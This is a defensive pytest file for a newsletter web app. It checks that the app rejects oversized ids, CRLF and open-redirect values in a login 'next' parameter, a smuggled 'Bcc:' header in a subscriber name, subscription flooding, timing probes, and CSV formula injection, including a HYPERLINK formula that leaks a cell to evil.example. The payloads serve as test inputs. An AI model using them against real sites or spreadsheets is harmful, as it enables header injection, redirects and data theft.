"""The public endpoints and the subscriber CSV files under attack, against `digest serve`.

Huge ids in the archive and in validly signed tokens, a login `next` carrying CR/LF,
HEAD on an unsubscribe link, the subscribe form flooded from one client (and from two
server processes) or probed for known addresses by its timing, a visitor's name with
control characters, and CSV cells that a spreadsheet would run as formulas.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import statistics
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiosmtpd.controller import Controller
from click.testing import CliRunner

from digest.app import App
from digest.cli import main
from digest.errors import SubscriberError
from digest.records import Subscriber
from digest.subscribers import export_csv, read_csv
from tests.conftest import Mailbox, Received, free_port, write_project
from tests.test_desk import EDITOR, PASSWORD, add_editor, client, token
from tests.test_web_public import (
    NOW,
    ONE_CLICK,
    _form,
    cli,
    date_articles,
    newsletter,
    serving,
    statuses,
)

WEEKLY = '[[lists]]\nname = "weekly"\ntitle = "The Weekly"\ndouble_opt_in = true\n'


def eventually(check: Callable[[], Any], timeout: float = 20.0) -> Any:
    """Wait for work done off the request (the subscribe form's), as a visitor would."""
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(0.05)


# -- no 500s ----------------------------------------------------------------------------------
def test_huge_ids_bad_next_and_head_answer_cleanly(tmp_path: Path) -> None:
    config = newsletter(tmp_path)
    add_editor(config)
    app = App.from_config(config)
    sub = app.store.subscribers("daily")[0]
    good = app.tokens.make("unsubscribe", sub.id)
    before = statuses(config)
    with serving(config) as base, httpx.Client(base_url=base, follow_redirects=False) as c:
        for edition_id in (10**30, 2**63, 2**31):
            r = c.get(f"/archive/{edition_id}")
            assert r.status_code == 404, (edition_id, r.status_code)
        for purpose, path in (("unsubscribe", "u"), ("preferences", "p"), ("confirm", "c")):
            for subscriber_id in (10**30, 2**63, -(2**70)):
                huge = app.tokens.make(purpose, subscriber_id)  # validly signed
                for method in ("GET", "POST", "HEAD"):
                    r = c.request(method, f"/{path}/{huge}", data=ONE_CLICK)
                    assert r.status_code == 404, (purpose, subscriber_id, method, r.status_code)
        # HEAD is a GET without a body: it shows (200) and changes nothing.
        r = c.head(f"/u/{good}")
        assert r.status_code == 200 and r.content == b""
        assert c.head(f"/p/{app.tokens.make('preferences', sub.id)}").status_code == 200
        assert c.head(f"/c/{app.tokens.make('confirm', sub.id)}").status_code == 200
        # A `next` that would split the Location header, or leave the site.
        for target in (
            "/editions%0d%0aSet-Cookie:%20owned=1",
            "/editions%0aX-Injected:%201",
            "/%09/evil.example",
            "/\\evil.example",
            "https://evil.example/",
            "//evil.example/",
        ):
            with client(base) as browser:
                form = browser.get(f"/login?next={target}")
                assert form.status_code == 200, target
                r = browser.post(
                    f"/login?next={target}",
                    data={"csrf_token": token(form.text), "email": EDITOR, "password": PASSWORD},
                )
                assert r.status_code == 303, (target, r.status_code)
                assert r.headers["location"] == "/editions", target
                assert "owned" not in r.headers.get("set-cookie", "")
                assert "x-injected" not in r.headers
                # Logged in, the login page sends on to `next`: the same check.
                r = browser.get(f"/login?next={target}")
                assert r.status_code == 303 and r.headers["location"] == "/editions"
    assert statuses(config) == before
    assert "Traceback" not in (config.parent / "serve.log").read_text()


# -- the subscribe form -------------------------------------------------------------------------
def _subscribe(
    c: httpx.Client, base: str, form: tuple[str, str], email: str, **extra: str
) -> httpx.Response:
    csrf, cookie = form
    headers = {"Cookie": cookie, **extra.pop("headers", {})}  # type: ignore[dict-item]
    return c.post(
        f"{base}/subscribe?list=weekly",
        data={"list": "weekly", "email": email, "csrf_token": csrf, **extra},
        headers=headers,
    )


def _confirmations(config: Path) -> list[Path]:
    return sorted((config.parent / "outbox").glob("confirm-*.eml"))


def test_one_client_cannot_flood_strangers_with_confirmations(tmp_path: Path) -> None:
    config = newsletter(tmp_path, extra=WEEKLY + "[serve]\nsubscribe_client_limit = 5\n")
    # Two server processes share the limit: it is kept in the database.
    with serving(config) as one, serving(config) as two, httpx.Client() as c:
        forms = {base: _form(c, f"{base}/subscribe?list=weekly") for base in (one, two)}
        codes = []
        for i in range(30):
            base = (one, two)[i % 2]
            r = _subscribe(c, base, forms[base], f"stranger{i}@example.net")
            codes.append(r.status_code)
            if r.status_code == 429:
                assert "Too many" in r.text
        assert codes.count(200) == 5, codes
        assert codes.count(429) == 25, codes
        eventually(lambda: len(_confirmations(config)) >= 5)
        time.sleep(0.5)
    assert len(_confirmations(config)) == 5
    assert len(statuses(config, "weekly")) == 5


def test_one_address_cannot_be_flooded_from_many_clients(tmp_path: Path) -> None:
    config = newsletter(
        tmp_path, extra=WEEKLY + "[serve]\nproxies = 1\nsubscribe_address_limit = 2\n"
    )
    with serving(config) as base, httpx.Client() as c:
        form = _form(c, f"{base}/subscribe?list=weekly")
        codes = [
            _subscribe(
                c,
                base,
                form,
                "victim@example.net" if i % 2 else "VICTIM@example.net",
                headers={"X-Forwarded-For": f"203.0.113.{i}"},  # type: ignore[arg-type]
            ).status_code
            for i in range(6)
        ]
        assert codes == [200, 200, 429, 429, 429, 429]
        # Another address from the same clients still goes through.
        r = _subscribe(
            c,
            base,
            form,
            "other@example.net",
            headers={"X-Forwarded-For": "203.0.113.1"},  # type: ignore[arg-type]
        )
        assert r.status_code == 200
        eventually(lambda: len(_confirmations(config)) >= 2)


class _SlowHandler:
    """An SMTP server that takes its time over each message (a slow relay)."""

    def __init__(self, box: Mailbox, delay: float) -> None:
        self.box, self.delay = box, delay

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        await asyncio.sleep(self.delay)
        with self.box.lock:
            self.box.messages.append(
                Received(envelope.mail_from, list(envelope.rcpt_tos), envelope.content)
            )
        return "250 OK"


@contextmanager
def slow_smtp(delay: float) -> Iterator[Mailbox]:
    box = Mailbox("127.0.0.1", free_port())
    controller = Controller(_SlowHandler(box, delay), hostname="127.0.0.1", port=box.port)
    controller.start()
    try:
        yield box
    finally:
        controller.stop()


def test_the_answer_and_its_timing_do_not_tell_known_from_new_addresses(tmp_path: Path) -> None:
    with slow_smtp(2.0) as smtp:
        config = write_project(
            tmp_path / "news",
            transport=f'kind = "smtp"\nhost = "127.0.0.1"\nport = {smtp.port}',
            extra=WEEKLY + "[serve]\nsubscribe_client_limit = 100\n",
        )
        date_articles(config.parent, NOW)
        known = [f"known{i}@example.org" for i in range(3)]
        listed = tmp_path / "known.csv"
        listed.write_text("email,name\n" + "".join(f"{e},\n" for e in known))
        cli(config, "subscribers", "import", str(listed), "--list", "weekly")  # active
        with serving(config) as base, httpx.Client(timeout=30) as c:
            form = _form(c, f"{base}/subscribe?list=weekly")
            times: dict[str, list[float]] = {"known": [], "new": []}
            bodies: dict[str, set[str]] = {"known": set(), "new": set()}
            for i in range(3):
                for kind, email in (("new", f"new{i}@example.org"), ("known", known[i])):
                    started = time.perf_counter()
                    r = _subscribe(c, base, form, email)
                    times[kind].append(time.perf_counter() - started)
                    assert r.status_code == 200 and "Check your inbox" in r.text
                    bodies[kind].add(r.text.replace(email, "EMAIL"))
            # The same page, and no slow mail hand-over inside the request.
            assert bodies["known"] == bodies["new"]
            assert max(times["new"]) < 1.0, times
            assert abs(statistics.median(times["new"]) - statistics.median(times["known"])) < 0.5
            # The confirmations still go out, off the request; known addresses get none.
            got = eventually(lambda: len(smtp.messages) >= 3, timeout=40)
            assert got, smtp.messages
            time.sleep(0.5)
        recipients = sorted(r for m in smtp.messages for r in m.recipients)
        assert recipients == [f"new{i}@example.org" for i in range(3)]


def test_a_visitors_name_is_stripped_of_control_characters_and_capped(tmp_path: Path) -> None:
    config = newsletter(tmp_path, extra=WEEKLY)
    app = App.from_config(config)
    with serving(config) as base, httpx.Client() as c:
        form = _form(c, f"{base}/subscribe?list=weekly")
        name = "R\r\nBcc: evil@example.net\x00\x1b[31m\u2028" + "x" * 500
        r = _subscribe(c, base, form, "reader@example.org", name=name)
        assert r.status_code == 200
        sub = eventually(lambda: app.store.subscriber("weekly", "reader@example.org"))
        mails = eventually(lambda: _confirmations(config))
    assert isinstance(sub, Subscriber)
    assert sub.name.startswith("R Bcc: evil@example.net")
    assert len(sub.name) <= 200
    assert not any(ord(ch) < 32 or ch in "\x7f\u2028\u2029\x85" for ch in sub.name)
    (mail,) = mails
    head = mail.read_bytes().split(b"\r\n\r\n", 1)[0]
    assert not re.search(rb"(?im)^bcc:", head)


# -- CSV: formulas and duplicate columns --------------------------------------------------------
FORMULAS = {
    "eq@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus@example.org": "+1+2",
    "minus@example.org": "-2+3",
    "at@example.org": "@SUM(1,2)",
    "tab@example.org": "\tTabbed",
    "plain@example.org": "Plain Name",
}


def test_export_neutralises_formulas_and_the_import_reads_them_back(tmp_path: Path) -> None:
    project = write_project(tmp_path / "news", extra='[[lists]]\nname = "other"\n')
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["email", "name"])
        writer.writerows(FORMULAS.items())
        writer.writerow(["=cmd@example.org", "Odd but valid"])
    cli(project, "subscribers", "import", str(source), "--list", "daily")
    r = CliRunner().invoke(
        main, ["subscribers", "export", "--list", "daily", "--config", str(project)]
    )
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.output)))
    assert rows[0] == ["email", "name", "sections", "timezone", "format"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    exported = {row[0]: row[1] for row in rows[1:]}
    assert exported["eq@example.org"] == "'" + FORMULAS["eq@example.org"]
    assert exported["plain@example.org"] == "Plain Name"
    assert "'=cmd@example.org" in exported
    # Imported again (a move to another list), the values are what they were.
    out = tmp_path / "out.csv"
    out.write_text(r.output, encoding="utf-8")
    cli(project, "subscribers", "import", str(out), "--list", "other")
    again = {s.email: s.name for s in App.from_config(project).store.subscribers("other")}
    assert again["eq@example.org"] == FORMULAS["eq@example.org"]
    assert again["minus@example.org"] == "-2+3"
    assert "=cmd@example.org" in again


def test_export_csv_directly() -> None:
    out = io.StringIO()
    export_csv([Subscriber(1, "a@example.org", "=1+1", "daily")], out)
    assert out.getvalue().splitlines()[1] == "a@example.org,'=1+1,,,html"


@pytest.mark.parametrize(
    ("header", "column"),
    [("email,name,email", "email"), ("email,Name, name ", "name"), ("EMAIL,email", "email")],
)
def test_a_header_with_a_column_twice_is_a_clear_error(
    tmp_path: Path, header: str, column: str
) -> None:
    path = tmp_path / "twice.csv"
    path.write_text(f"{header}\nann@example.org,Ann,bob@example.org\n", encoding="utf-8")
    with pytest.raises(SubscriberError) as caught:
        list(read_csv(path))
    message = str(caught.value)
    assert message.startswith(f"{path}:1:")
    assert f"{column!r}" in message and "twice" in message
    project = write_project(tmp_path / "news")
    r = CliRunner().invoke(
        main,
        ["subscribers", "import", str(path), "--list", "daily", "--config", str(project)],
    )
    assert r.exit_code != 0
    assert "twice" in r.output and "Traceback" not in r.output
    assert App.from_config(project).store.subscribers("daily") == []
